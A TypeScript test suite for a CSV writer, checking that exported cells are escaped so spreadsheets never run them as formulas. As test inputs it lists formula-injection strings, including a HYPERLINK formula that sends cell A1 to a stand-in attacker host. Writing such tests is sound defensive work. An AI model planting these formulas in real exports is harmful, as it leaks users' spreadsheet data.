/** CSV: what a spreadsheet opens is what the ledger says, and never a formula. */
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { BYTE_ORDER_MARK, csvText, tabText, withFormula, withoutFormula } from '../../../shared/csv/write.ts';

const rowsOf = (text: string): string[][] => parse(text, { relaxColumnCount: true });

describe('CSV', () => {
  it.each(['=1+1', '+441632960200', '-2', '@SUM(A1)', '\t=1', '\r=1', '\n=1', ' =1', '＝1+1', '\uFEFF=1', '\u200B@x'])(
    'makes text of %j',
    (hostile) => {
      const [, [cell = ''] = []] = rowsOf(csvText({ columns: ['A'], rows: [[hostile]] }));
      expect(cell).toMatch(/^'/);
      expect(withFormula(cell)).toBe(hostile);
    },
  );

  it('writes no cell that begins a formula, whatever the texts', () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string(), { minLength: 1, maxLength: 4 }), { maxLength: 5 }), (rows) => {
        for (const cells of rowsOf(csvText({ columns: ['A'], rows })))
          for (const cell of cells) expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
      }),
    );
  });

  it('gives every text back as it was, apart from the apostrophe', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ minLength: 1 }), { minLength: 2, maxLength: 5 }), (cells) => {
        const columns = cells.map((_, index) => `column ${index}`);
        const [, row] = rowsOf(csvText({ columns, rows: [cells] }));
        expect(row).toEqual(cells.map(withoutFormula));
      }),
    );
  });

  it.each([';', '\t', '|', '\n', '\r\n'])(
    'begins no formula behind %j either, where cells are separated by it',
    (separator) => {
      for (const start of ['=', '+', '-', '@', ' =', '"=', '＝', '\u00a0='])
        expect(withoutFormula(`x${separator}${start}HYPERLINK("http://evil.example/?"&A1)`)).toContain(
          `${separator}'${start}`,
        );
    },
  );

  it('a text read back from a table is what it was', () => {
    const text = fc.string({ unit: fc.constantFrom('=', '+', "'", '"', ';', '\t', '\n', ' ', 'a', '@', '|', '\r') });
    fc.assert(
      fc.property(fc.oneof(text, fc.string()), (one) => {
        expect(withFormula(withoutFormula(one))).toBe(one);
      }),
      { numRuns: 2000 },
    );
  });

  it('keeps numbers numbers, says yes and no, leaves what is not there empty, and marks UTF-8 on request', () => {
    expect(csvText({ columns: ['a', 'b', 'c', 'd'], rows: [[-3, true, null, undefined]] })).toBe(
      'a,b,c,d\r\n-3,yes,,\r\n',
    );
    expect(csvText({ columns: ['é'], rows: [] }, { bom: true })).toBe(`${BYTE_ORDER_MARK}é\r\n`);
  });

  it('quotes tabs and line ends on the clipboard, and lets no formula through there either', () => {
    expect(tabText({ columns: ['a', 'b'], rows: [['x\ty', '=1']] })).toBe('a\tb\n"x\ty"\t\'=1');
  });
});
